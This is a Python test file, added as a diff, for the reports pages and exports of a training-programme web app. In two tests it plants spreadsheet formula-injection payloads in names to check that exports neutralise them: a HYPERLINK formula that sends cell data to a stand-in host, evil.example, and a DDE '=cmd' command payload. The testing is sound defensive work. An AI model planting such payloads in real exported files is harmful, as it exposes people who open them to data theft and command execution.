@@ -1,0 +1,274 @@
+"""The reports pages, drill-downs and exports: permissions for every role,
+figures on the page, bad filters, spreadsheet safety, fixed query counts."""
+
+from __future__ import annotations
+
+import csv
+import io
+from contextlib import contextmanager
+from datetime import date
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from tests import factories
+from training.extensions import db
+from training.models import SessionStatus, Sex
+
+ROUTES = [
+    "/reports",
+    "/reports/participants",
+    "/reports/sessions",
+    "/reports/export.csv",
+    "/reports/export.xlsx",
+    "/reports/export-participants.xlsx",
+    "/reports/donor-report.pdf",
+]
+
+
+@pytest.mark.parametrize("url", ROUTES)
+@pytest.mark.parametrize(
+    ("role", "status"),
+    [("admin", 200), ("coordinator", 200), ("trainer", 403), ("participant", 403)],
+)
+def test_who_may_open_the_reports(client, login_as, url, role, status):
+    login_as(role)
+    assert client.get(url).status_code == status
+
+
+@pytest.mark.parametrize("url", ROUTES)
+def test_anonymous_visitors_are_sent_to_sign_in(client, app, url):
+    response = client.get(url)
+    assert response.status_code == 302
+    assert "/login" in response.headers["Location"]
+
+
+def test_reports_page_shows_the_figures_charts_and_definitions(client, login_as, programme):
+    login_as("coordinator")
+    response = client.get("/reports")
+    assert response.status_code == 200
+    page = response.get_data(as_text=True)
+    for text in ("Sessions held", "People trained", "Share of women", "50.0%", "40.0%", "88.5%"):
+        assert text in page
+    assert "31.2 points" in page or "31.3 points" in page
+    assert page.count('role="img"') == 3
+    assert "<title id=" in page
+    assert "People trained per year, by sex" in page
+    assert "How these figures are counted" in page
+    assert "<script>" not in page
+    # Every headline figure links to what is behind it.
+    assert "/reports/sessions" in page
+    assert "/reports/participants?sex=F" in page
+
+
+def test_filters_narrow_the_page(client, login_as, programme):
+    login_as("coordinator")
+    page = client.get("/reports?country=NE&theme=counter_terrorism").get_data(as_text=True)
+    assert "94.4%" in page  # 17 of 18 periods
+    assert "Counter-terrorism" in page
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "country=XX",
+        "country=Narnia",
+        "date_from=2025-13-45",
+        "date_from=yesterday",
+        "date_from=2026-01-01&date_to=2025-01-01",
+        "theme=astrology",
+        "curriculum=abc",
+        "curriculum=999999",
+        "organisation_kind=pirates",
+        "partner=-1",
+    ],
+)
+def test_bad_filters_give_the_form_with_its_error(client, login_as, programme, query):
+    login_as("coordinator")
+    for url in ("/reports", "/reports/export.csv", "/reports/export.xlsx", "/reports/participants"):
+        response = client.get(f"{url}?{query}")
+        assert response.status_code == 400, url
+        assert "Some filters are not valid" in response.get_data(as_text=True)
+
+
+def test_bad_drill_down_arguments_give_400(client, login_as, programme):
+    login_as("coordinator")
+    for query in ("sex=X", "year=abc", "certificate=diploma", "nationality=ZZ"):
+        assert client.get(f"/reports/participants?{query}").status_code == 400
+        assert client.get(f"/reports/sessions?{query}").status_code == 400
+
+
+def test_drill_down_lists_the_people_behind_a_cell(client, login_as, programme):
+    login_as("coordinator")
+    page = client.get("/reports/participants?sex=F").get_data(as_text=True)
+    assert "2 participants" in page
+    assert programme.a.family_name.upper() in page
+    assert programme.c.family_name.upper() in page
+    assert programme.b.family_name.upper() not in page
+    page = client.get("/reports/participants?nationality=none").get_data(as_text=True)
+    assert programme.d.family_name.upper() in page
+    page = client.get("/reports/participants?organisation_kind=none").get_data(as_text=True)
+    assert "1 participant" in page
+    page = client.get("/reports/sessions?theme=counter_terrorism&year=2025").get_data(as_text=True)
+    assert programme.s1.code in page and programme.s4.code in page
+    assert programme.s2.code not in page
+
+
+def test_every_table_cell_links_to_a_drill_down_that_agrees(client, login_as, programme):
+    login_as("coordinator")
+    page = client.get("/reports").get_data(as_text=True)
+    assert "/reports/participants?nationality=ML" in page
+    assert "/reports/participants?organisation_kind=none" in page
+    assert "/reports/sessions?theme=drugs&amp;year=2026" in page
+
+
+def test_csv_export_holds_every_table_as_a_section(client, login_as, programme):
+    login_as("coordinator")
+    response = client.get("/reports/export.csv?country=NE")
+    assert response.status_code == 200
+    assert response.headers["Cache-Control"] == "no-store"
+    disposition = response.headers["Content-Disposition"]
+    assert disposition.startswith('attachment; filename="atelier-report-')
+    assert disposition.endswith('.csv"')
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[0] == ["Filters"]
+    assert ["Country of the session", "Niger"] in rows
+    assert ["People trained", "3", ""] in rows
+    assert ["Attendance rate", "94.4", "%"] in rows
+    assert ["Headline figures"] in rows
+    assert ["People trained by nationality and sex"] in rows
+    assert ["Sessions and people trained by theme and year"] in rows
+
+
+def test_xlsx_export_has_a_filters_sheet_and_one_sheet_per_table(client, login_as, programme):
+    login_as("admin")
+    response = client.get("/reports/export.xlsx?theme=drugs")
+    assert response.status_code == 200
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.headers["Content-Disposition"].endswith('.xlsx"')
+    workbook = load_workbook(io.BytesIO(response.data))
+    assert workbook.sheetnames == [
+        "Filters",
+        "Headline",
+        "Nationality × sex",
+        "Organisation kind × sex",
+        "Theme × year",
+        "Knowledge gain",
+    ]
+    filters = workbook["Filters"]
+    assert filters["A2"].value == "Theme" and filters["B2"].value == "Drugs"
+    for sheet in workbook.worksheets:
+        assert sheet.freeze_panes == "A2"
+        assert sheet["A1"].font.bold
+    headline = {
+        row[0]: row[1] for row in workbook["Headline"].iter_rows(min_row=2, values_only=True)
+    }
+    assert headline["People trained"] == 2
+    assert headline["Attendance rate"] == 75.0
+    assert headline["Mean knowledge gain"] == 27.5
+
+
+def test_participant_export_is_spreadsheet_safe(client, login_as, programme):
+    programme.a.family_name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    programme.b.given_name = "+33 1 23"
+    programme.c.given_name = "@SUM(A1:A2)"
+    programme.d.given_name = "-2+3"
+    db.session.commit()
+    login_as("coordinator")
+    response = client.get("/reports/export-participants.xlsx")
+    assert response.status_code == 200
+    assert response.headers["Cache-Control"] == "no-store"
+    assert 'filename="atelier-participants-' in response.headers["Content-Disposition"]
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    rows = list(sheet.iter_rows(values_only=True))
+    assert rows[0][0] == "Family name"
+    assert sheet.freeze_panes == "A2"
+    assert len(rows) == 6  # five person-trainings and the header
+    family_names = [row[0] for row in rows[1:]]
+    given_names = [row[1] for row in rows[1:]]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' in family_names
+    assert not any(str(name).startswith("=") for name in family_names)
+    assert {"'+33 1 23", "'@SUM(A1:A2)", "'-2+3"} <= set(given_names)
+
+
+def test_csv_export_neutralises_formulas(client, login_as, programme):
+    programme.partner.name = "=cmd|' /C calc'!A0"
+    db.session.commit()
+    login_as("coordinator")
+    body = client.get(f"/reports/export.csv?partner={programme.partner.id}").get_data(as_text=True)
+    assert "'=cmd|' /C calc'!A0" in body
+
+
+def test_donor_report_pdf(client, login_as, programme):
+    login_as("coordinator")
+    response = client.get("/reports/donor-report.pdf?country=NE")
+    assert response.status_code == 200
+    assert response.mimetype == "application/pdf"
+    assert response.headers["Cache-Control"] == "no-store"
+    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)
+    assert "Programme results" in text
+    assert "Niger" in text
+    assert "Headline figures" in text
+    assert "People trained by nationality and sex" in text
+    assert "94.4%" in text
+
+
+def test_donor_report_speaks_french(client, login_as, programme):
+    user = login_as("coordinator", locale="fr")
+    assert user.locale == "fr"
+    response = client.get("/reports/donor-report.pdf")
+    assert response.status_code == 200
+    assert response.headers["Content-Disposition"].endswith('.pdf"')
+
+
+@contextmanager
+def count_queries():
+    statements: list[str] = []
+
+    def record(conn, cursor, statement, parameters, context, executemany):
+        statements.append(statement)
+
+    sa.event.listen(db.engine, "before_cursor_execute", record)
+    try:
+        yield statements
+    finally:
+        sa.event.remove(db.engine, "before_cursor_execute", record)
+
+
+def _grow(programme, sessions: int) -> None:
+    """More sessions, participants and records: the query count must not move."""
+    for number in range(sessions):
+        training_session = factories.make_session(
+            programme.curriculum_ct,
+            start_date=date(2024, 1 + number, 8),
+            status=SessionStatus.COMPLETED,
+            country="BF",
+        )
+        for _ in range(3):
+            enrollment = factories.enroll(
+                factories.make_participant(sex=Sex.MALE, nationality="BF"),
+                training_session,
+                pre_test_score=10,
+                post_test_score=20,
+            )
+            factories.mark_all(enrollment)
+    db.session.commit()
+
+
+@pytest.mark.parametrize(
+    "url", ["/reports", "/reports/export.csv", "/reports/export.xlsx", "/reports/participants"]
+)
+def test_query_count_does_not_grow_with_the_data(client, login_as, programme, url):
+    login_as("coordinator")
+    client.get(url)
+    db.session.commit()  # every measure starts from a fresh transaction
+    with count_queries() as small:
+        assert client.get(url).status_code == 200
+    _grow(programme, 4)
+    db.session.commit()
+    with count_queries() as large:
+        assert client.get(url).status_code == 200
+    assert len(large) == len(small)
+    assert len(small) <= 20
